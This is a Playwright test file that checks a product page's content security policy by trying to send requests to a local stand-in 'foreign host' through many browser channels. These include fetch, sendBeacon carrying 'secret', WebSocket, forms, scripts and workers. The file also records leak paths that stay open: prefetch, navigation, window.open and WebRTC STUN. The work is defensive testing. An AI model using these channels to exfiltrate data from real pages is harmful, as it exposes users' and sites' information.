import type { Page } from 'playwright'
import { expect } from '../support/expect.ts'
import { afterAll, beforeAll, describe, test } from 'vitest'
import { startForeignHost, type ForeignHost } from './foreign-host.ts'
import { openProductPages, type ProductPages } from './product-page.ts'

let pages: ProductPages
let foreign: ForeignHost
let page: Page

beforeAll(async () => {
  foreign = await startForeignHost()
  pages = await openProductPages()
  page = await pages.open({ provokes: /^the shell$/ })
  await page.goto('/discover')
  await expect(page.getByRole('heading', { name: 'Discover' })).toBeVisible()
})

afterAll(async () => {
  await pages.close()
  await foreign.close()
})

/** What code of a remote could try, as the page runs it: each is given the address of a foreign host. */
const attempts: Record<string, (to: string) => unknown> = {
  fetch: (to) => fetch(to).catch(() => undefined),
  XMLHttpRequest: (to) => {
    const request = new XMLHttpRequest()
    request.open('GET', to)
    request.send()
  },
  WebSocket: (to) => void new WebSocket(to.replace('http', 'ws')),
  EventSource: (to) => void new EventSource(to),
  sendBeacon: (to) => void navigator.sendBeacon(to, 'secret'),
  font: (to) => new FontFace('foreign', `url(${to})`).load().catch(() => undefined),
  'style sheet': (to) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: to }))
  },
  'style attribute': (to) => {
    document.body.setAttribute('style', `background: url(${to})`)
  },
  form: (to) => {
    const form = Object.assign(document.createElement('form'), { action: to, method: 'post' })
    document.body.append(form)
    form.submit()
  },
  frame: (to) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: to }))
  },
  object: (to) => {
    try {
      document.body.append(Object.assign(document.createElement('object'), { data: to }))
    } catch {
      // Trusted types.
    }
  },
  modulepreload: (to) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: to }))
  },
  worker: (to) => {
    // Trusted types want a policy, and those are named; with a string it throws.
    try {
      return void new Worker(to)
    } catch {
      return undefined
    }
  },
  script: (to) => {
    try {
      document.head.append(Object.assign(document.createElement('script'), { src: to }))
    } catch {
      // Trusted types.
    }
  },
  'script as text': (to) => {
    try {
      document.head.append(Object.assign(document.createElement('script'), { text: `fetch('${to}')` }))
    } catch {
      // Trusted types.
    }
  },
}

/** Has pictures come from the foreign host, one after another: what was asked of it before has arrived by then. */
async function askForPictures(after: string): Promise<void> {
  for (const name of ['a', 'b', 'c']) {
    const path = `/picture-${name}-after${after}`
    await page.evaluate((to) => void (new Image().src = to), foreign.url + path)
    await expect.poll(() => foreign.reached).toContain(path)
  }
}

describe('what leaves the page for a foreign host:', { tags: ['gate'] }, () => {
  test.each(Object.keys(attempts))('nothing by %s', async (name) => {
    const path = `/${name.replaceAll(' ', '-')}`
    const attempt = attempts[name]
    if (!attempt) throw new Error(`There is no attempt ${name}`)
    await page.evaluate(attempt, foreign.url + path)
    await askForPictures(path)
    expect(foreign.reached.filter((reached) => reached.startsWith(path))).toEqual([])
    expect(new URL(page.url()).origin).toBe(pages.product.url)
  })
})

// It cannot be refused, or is wanted. docs/security.md says so.
describe('what all the same leaves the page for a foreign host:', () => {
  test('pictures, which feeds have anywhere', async () => {
    await page.evaluate((to) => void (new Image().src = to), `${foreign.url}/picture`)
    await expect.poll(() => foreign.reached).toContain('/picture')
  })

  test('another window, which knows nothing of the page that opened it', async () => {
    const opened = page.context().waitForEvent('page')
    await page.evaluate((to) => void window.open(to), `${foreign.url}/window`)
    const other = await opened
    await expect.poll(() => foreign.reached).toContain('/window')
    expect(await other.evaluate(() => opener)).toBeNull()
    await other.close()
  })

  test('the page itself, when it is led elsewhere', async () => {
    const led = await pages.open()
    await led.goto('/discover')
    await led.evaluate((to) => void (location.href = to), `${foreign.url}/navigation`)
    await expect.poll(() => foreign.reached).toContain('/navigation')
    await led.context().close()
  })

  test('a prefetch, which no directive speaks of', async () => {
    await page.evaluate((to) => {
      document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: to }))
    }, `${foreign.url}/prefetch`)
    await expect.poll(() => foreign.reached).toContain('/prefetch')
  })

  test('packets of WebRTC, for which Chromium knows no directive', async () => {
    await page.evaluate(async (urls) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls }] })
      connection.createDataChannel('leak')
      await connection.setLocalDescription(await connection.createOffer())
    }, foreign.stunUrl)
    await expect.poll(() => foreign.reached).toContain('stun')
  })
})
